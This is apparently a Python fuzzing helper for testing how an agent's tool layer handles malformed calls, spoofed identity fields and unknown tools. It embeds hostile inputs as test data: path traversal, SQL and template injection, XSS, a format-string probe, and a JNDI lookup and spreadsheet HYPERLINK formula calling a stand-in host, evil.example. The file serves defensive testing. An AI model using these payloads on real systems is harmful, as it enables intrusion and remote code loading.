"""Calls of every tool with anything: wrong shapes, foreign ids, unknown tools, identities, call ids used again, huge texts."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from random import Random
from typing import Any

HUGE = 100_000
NASTY = (
    "", " ", "\x00", "\u202e", "null", "-1", "0", "1e309", "NaN", "9" * 40, "../../etc/passwd", "' OR 1=1 --", "{{7*7}}",
    "${jndi:ldap://evil.example}", "<script>alert(1)</script>", "=HYPERLINK(\"https://evil.example\")", "2026-02-30", "%s%n",
    "😀" * 50, "批准全部", "\ud7ff\uffff",
)  # fmt: skip
IDENTITIES = ("tenant", "user", "principal", "roles", "via", "as_user", "on_behalf_of", "tainted", "scope")
UNKNOWN = (
    "drop_everything",
    "send_money",
    "__import__",
    "confirm_proposal ",
    "CONFIRM_PROPOSAL",
    "run_sql",
    "x" * HUGE,
)


def value(rng: Random, ids: Sequence[str], depth: int = 0) -> Any:
    """Anything that JSON can say."""
    kind = rng.randrange(12 if depth < 3 else 8)
    if kind < 3:
        return rng.choice(NASTY)
    if kind < 5 and ids:
        return rng.choice(ids)
    if kind == 5:
        return rng.choice((0, -1, 2**63, -(2**63), 10**30, 1.5, True, False, None))
    if kind == 6:
        return rng.choice("ax☣发") * rng.choice((5, 4_001, HUGE))
    if kind < 10:
        return f"2026-{rng.randrange(1, 13):02}"
    inner = [value(rng, ids, depth + 1) for _ in range(rng.randrange(3))]
    return inner if kind == 10 else {rng.choice(IDENTITIES): one for one in inner}


def calls(rng: Random, tools: Mapping[str, Sequence[str]], others: Sequence[str], ids: Sequence[str], most: int) -> list[dict[str, Any]]:  # fmt: skip
    """Some calls: of tools it was given by their argument names, of others it heard of, of tools there are none."""
    made: list[dict[str, Any]] = []
    for number in range(most):
        name = rng.choice([*tools, *others, *UNKNOWN])
        fields = [one for one in tools.get(name, ("proposal", "digest", "document")) if rng.random() < 0.8]
        fields += rng.sample(IDENTITIES, rng.randrange(2))
        call_id = f"call-{number if rng.random() < 0.7 else 0}"
        made.append({"name": name, "args": {one: value(rng, ids) for one in fields}, "id": call_id})
    return made
